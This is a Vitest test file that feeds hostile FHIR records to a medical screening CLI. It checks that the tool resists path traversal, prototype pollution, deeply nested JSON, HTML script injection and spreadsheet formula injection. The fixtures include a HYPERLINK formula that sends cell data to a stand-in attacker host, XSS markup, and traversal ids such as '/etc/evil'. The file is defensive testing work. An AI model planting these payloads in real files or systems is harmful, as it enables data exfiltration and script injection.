import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { type Ended, runCommand } from '../fixtures/command.ts';
import { temporaryFolder } from '../fixtures/temporary-file.ts';

const formula = '=HYPERLINK("https://evil.example?"&A1,"open")';
const markup = '<img src=x onerror=alert(1)><script>alert(2)</script>';
/** Ids that R4 does not allow, and that a folder on a disk could hold. */
const ids = ['../../evil', '..\\evil', '/etc/evil', 'nul\u0000evil', formula, markup, '__proto__'];
const deep = 100_000;

const patient = (id: string) => ({ resourceType: 'Patient', id, gender: 'male', birthDate: '1990-01-01' });
const condition = (id: string, subject: string, code: string, display: string) => ({
  ...{ resourceType: 'Condition', id, subject: { reference: `Patient/${subject}` }, recordedDate: '2025-01-01' },
  code: { text: display, coding: [{ system: 'http://human-phenotype-ontology.org', code, display }] },
});
/** Ectopia lentis, arachnodactyly, aortic root aneurysm. */
const findings = ['HP:0001083', 'HP:0001166', 'HP:0002616'];

describe('hoofbeats screen, given hostile records', { timeout: 180_000 }, () => {
  const work = temporaryFolder();
  const out = join(work, 'deep', 'out');
  let ended: Ended;
  const read = (name: string) => readFileSync(join(out, name), 'utf8');
  beforeAll(async () => {
    const dir = join(work, 'in');
    mkdirSync(dir);
    const lines = (resources: readonly object[]) => resources.map((one) => `${JSON.stringify(one)}\n`).join('');
    writeFileSync(join(dir, 'Patient.ndjson'), lines(ids.map(patient)));
    const conditions = ids.flatMap((id) =>
      findings.map((code, at) => condition(`c${at}`, id, code, `${formula} ${markup}`)),
    );
    const bomb = `{"resourceType":"Condition","id":"b","subject":{"reference":"Patient/__proto__"},"x":${'['.repeat(deep)}${']'.repeat(deep)}}\n`;
    writeFileSync(join(dir, 'Condition.ndjson'), `${lines(conditions)}${bomb}${'['.repeat(deep)}\n`);
    ended = await runCommand(['screen', '--ndjson', dir, '--out', out, '--json'], { DATA_DIR: join(work, 'data') });
  }, 180_000);

  it('comes to its end, and names what it could not read', () => {
    expect([ended.status, ended.stderr]).toEqual([0, expect.any(String)]);
    expect(JSON.parse(ended.stdout)).toMatchObject({ phase: 'finished' });
    expect(JSON.parse(ended.stdout).assessed).toBeGreaterThan(0);
    expect(read('errors.ndjson')).toContain('broken-line');
  });

  it('writes nothing but its own files, whatever patients are called', () => {
    expect(readdirSync(work).sort()).toEqual(['data', 'deep', 'in']);
    expect(readdirSync(join(work, 'deep'))).toEqual(['out']);
    expect(readdirSync(out).sort()).toEqual([
      'README.txt',
      'errors.ndjson',
      'not-assessable.ndjson',
      'report.html',
      'riskassessments.ndjson',
      'summary.json',
      'worklist.csv',
      'worklist.ndjson',
    ]);
  });

  it('puts no markup of a record into the report, and no formula into the work list', () => {
    expect(read('report.html')).not.toMatch(/<img|<script>alert/);
    const cells = read('worklist.csv')
      .split('\r\n')
      .flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    expect(cells.length).toBeGreaterThan(14);
    expect(cells.filter((cell) => /^"?\s*[=+@-]/.test(cell))).toEqual([]);
  });
});
